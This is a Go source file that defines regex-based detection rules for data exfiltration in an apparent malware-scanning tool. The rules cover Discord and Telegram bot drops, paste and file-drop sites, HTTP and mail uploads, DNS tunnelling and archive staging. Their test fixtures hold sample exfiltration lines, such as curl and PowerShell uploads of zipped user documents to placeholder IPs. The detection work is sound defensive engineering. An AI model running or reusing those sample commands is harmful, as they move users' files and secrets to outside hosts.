package indicators

import "github.com/automaldesc/automaldesc/analysis/lang"

// exfiltrationIndicators: sending collected data out through webhooks, bots,
// paste sites, file drops, mail or HTTP uploads.
func exfiltrationIndicators() []Indicator {
	return []Indicator{
		{
			ID:          "exfil.discord_webhook",
			Title:       "Discord webhook URL",
			Description: "A discord.com/api/webhooks/<id>/<token> URL: a favourite drop for stolen data and install beacons.",
			Severity:    SeverityHigh, Techniques: techs("T1567.004"), Tactic: "exfiltration",
			m:              rx(`discord(?:app)?\.com/api/webhooks/\d+/[\w-]+`, "/api/webhooks/"),
			TruePositives:  fx(`url = 'https://§discord.com/api/webhooks/000000000000000000/AAAAexampleTOKENxx'`),
			FalsePositives: fx(`# see https://discord.com/developers/docs/resources/webhook`),
		},
		{
			ID:          "exfil.telegram_bot",
			Title:       "Telegram bot API",
			Description: "api.telegram.org/bot<token>/sendMessage|sendDocument: a Telegram bot used as a C2 or exfiltration channel.",
			Severity:    SeverityHigh, Techniques: techs("T1567", "T1102.002"), Tactic: "exfiltration",
			m:              rx(`api\.telegram\.org/bot`, "api.telegram.org/bot"),
			TruePositives:  fx(`requests.post(f"https://§api.telegram.org/bot{TOKEN}/sendDocument", files={'document': f})`),
			FalsePositives: fx(`# telegram.org hosts the docs`),
		},
		{
			ID:          "exfil.paste_upload",
			Title:       "Upload to a paste site API",
			Description: "Posts data to the Pastebin/Hastebin/ix.io upload APIs.",
			Severity:    SeverityHigh, Techniques: techs("T1567"), Tactic: "exfiltration",
			m:              rx(`pastebin\.com/api/api_post\.php|hastebin\.com/documents|\bix\.io\b|paste\.rs\b|dpaste\.(?:com|org)/api`, "api_post.php", "hastebin.com/documents", "ix.io", "paste.rs", "dpaste."),
			TruePositives:  fx(`r = requests.post('https://§pastebin.com/api/api_post.php', data=d)`),
			FalsePositives: fx(`# pastebin.com links are not allowed in tickets`),
		},
		{
			ID:          "exfil.request_catcher",
			Title:       "Request-capture or anonymous file-drop service",
			Description: "webhook.site, requestbin, pipedream, interactsh/oast, Burp Collaborator, canarytokens, anonfiles, gofile, file.io, 0x0.st, bashupload: data sinks used by stealers and malicious packages.",
			Severity:    SeverityHigh, Techniques: techs("T1567", "T1567.002"), Tactic: "exfiltration",
			m:              rx(`webhook\.site/|requestbin\.|\.pipedream\.net|\.m\.pipedream|\.oast\.(?:fun|me|online|pro|site|live)|interact\.sh|\.burpcollaborator\.net|\.oastify\.com|canarytokens\.com|anonfiles\.com|api\.gofile\.io|gofile\.io/upload|\bfile\.io\b|\b0x0\.st\b|bashupload\.com|ufile\.io|catbox\.moe/user/api`, "webhook.site", "requestbin", "pipedream", ".oast.", "interact.sh", "burpcollaborator", "oastify", "canarytokens", "anonfiles", "gofile.io", "file.io", "0x0.st", "bashupload", "ufile.io", "catbox.moe"),
			TruePositives:  fx(`fetch('https://§webhook.site/00000000-0000-0000-0000-000000000000', {method: 'POST', body: d})`),
			FalsePositives: fx(`// webhooks are configured in settings`),
		},
		{
			ID:          "exfil.http_file_upload",
			Title:       "Local files uploaded over HTTP",
			Description: "WebClient.UploadFile/UploadData, Invoke-WebRequest -InFile, curl -F file=@ / --upload-file / -T, or requests.post(files=...): sends files out.",
			Severity:    SeverityMedium, Techniques: techs("T1041", "T1048.003"), Tactic: "exfiltration",
			m:              rx(`\.upload(?:file|data|string)\s*\(|invoke-(?:webrequest|restmethod)\s[^\n]*-infile\b|\bcurl\b[^\n]*(?:-F\s*["']?\w+=@|--upload-file\s|\s-T\s)|requests\.post\s*\([^\n]*files\s*=`, "upload", "-infile", "curl", "requests.post"),
			TruePositives:  fx(`$wc§.UploadFile('http://203.0.113.37/u.php', 'C:\Users\Public\d.zip')`, `§curl -F "f=@/tmp/d.tgz" http://198.51.100.37/u`),
			FalsePositives: fx(`curl -F "name=value" https://example.invalid/form`),
		},
		{
			ID:          "exfil.mail_attachment",
			Title:       "Collected data mailed out by a script",
			Description: "smtplib login + sendmail/send_message with attachments, or Send-MailMessage with -Attachments to an external SMTP server: data leaves by e-mail.",
			Severity:    SeverityMedium, Techniques: techs("T1048.003"), Tactic: "exfiltration",
			Languages: []lang.Language{lang.Python, lang.PowerShell},
			m: rx(`smtplib\.smtp(?:_ssl)?\s*\(|send-mailmessage\s[^\n]*-attachments?\b|net\.mail\.attachment`, "smtplib", "send-mailmessage", "net.mail.attachment").
				and(`\.login\s*\(|-credential\b|networkcredential`, ".login", "-credential", "networkcredential").
				and(`mimebase|attach|attachment|add_attachment`, "mimebase", "attach"),
			TruePositives:  fx("s = §smtplib.SMTP_SSL('smtp.example.invalid', 465)\ns.login(u, p)\nm.attach(MIMEBase('application', 'zip'))\ns.send_message(m)"),
			FalsePositives: fx("s = smtplib.SMTP('localhost')\ns.send_message(msg)"),
		},
		{
			ID:          "exfil.dns_tunnel",
			Title:       "DNS tunnelling tool",
			Description: "dnscat2, iodine, dnsteal or DNSExfiltrator: data moved through DNS queries.",
			Severity:    SeverityHigh, Techniques: techs("T1048", "T1071.004"), Tactic: "exfiltration",
			m:              rx(`\bdnscat2?\b|\biodine\s+-|\bdnsteal\b|invoke-dnsexfiltrator|dnsexfiltrator`, "dnscat", "iodine", "dnsteal", "dnsexfiltrator"),
			TruePositives:  fx(`§dnscat2 --dns server=ns.example.invalid`),
			FalsePositives: fx(`# iodine is an element`),
		},
		{
			ID:          "exfil.archive_staging",
			Title:       "Collected files archived for exfiltration",
			Description: "Compress-Archive/zip/tar/7z of user folders (Desktop, Documents, browser profiles) into a temp location, combined with an upload in the same layer.",
			Severity:    SeverityMedium, Techniques: techs("T1560.001", "T1074.001"), Tactic: "collection",
			m: rx(`(?:compress-archive|zipfile\.zipfile|shutil\.make_archive|\b7z(?:\.exe)?\s+a\b|\btar\s+-?c[zj]?f|\bzip\s+-r)\b[^\n]*(?:desktop|documents|downloads|appdata|\.ssh|login data|cookies|tdata|/home/|\$home|~/)`, "compress-archive", "zipfile", "make_archive", "7z", "tar ", "zip ").
				and(`upload|requests\.post|api\.telegram|webhooks|invoke-webrequest|invoke-restmethod|curl\b|ftp|smtp`, "upload", "requests.post", "api.telegram", "webhooks", "invoke-webrequest", "invoke-restmethod", "curl", "ftp", "smtp"),
			TruePositives:  fx("§Compress-Archive -Path $env:USERPROFILE\\Documents -DestinationPath $env:TEMP\\d.zip\n$wc.UploadFile('http://203.0.113.38/u', \"$env:TEMP\\d.zip\")"),
			FalsePositives: fx("Compress-Archive -Path .\\build -DestinationPath release.zip"),
		},
	}
}
